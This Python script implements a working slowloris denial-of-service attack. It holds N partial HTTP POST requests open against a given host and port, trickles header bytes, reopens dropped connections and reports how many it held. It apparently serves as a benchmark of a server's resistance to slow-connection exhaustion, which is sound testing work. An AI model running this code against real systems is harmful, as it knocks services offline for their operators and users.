#!/usr/bin/env python3
"""Holds N slow connections open against HOST:PORT until killed (slowloris): each sends part of
a request header and then one more header byte every second, and is reopened as soon as the
server closes it. On SIGTERM it prints how many it held on average and how many it reopened."""
import selectors
import signal
import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
sel = selectors.DefaultSelector()
opened = closed = 0
samples = []


def connect():
    global opened
    s = socket.socket()
    s.setblocking(True)
    try:
        s.connect((host, port))
        s.sendall(b"POST /v1/auth/tokens/short HTTP/1.1\r\nHost: bench\r\nAuthoriz")
    except OSError:
        s.close()
        return
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ)
    opened += 1


def stop(*_):
    held = sum(samples) / len(samples) if samples else 0
    print(f"slow connections: {n} wanted, {held:.0f} held on average, {closed} closed by the server and reopened")
    sys.exit(0)


signal.signal(signal.SIGTERM, stop)
for _ in range(n):
    connect()
last = time.monotonic()
while True:
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:
            sel.unregister(s)
            s.close()
            closed += 1
    while len(sel.get_map()) < n:
        before = len(sel.get_map())
        connect()
        if len(sel.get_map()) == before:
            break
    if time.monotonic() - last >= 1:
        last = time.monotonic()
        samples.append(len(sel.get_map()))
        for key in list(sel.get_map().values()):
            try:
                key.fileobj.send(b"x")
            except OSError:
                pass
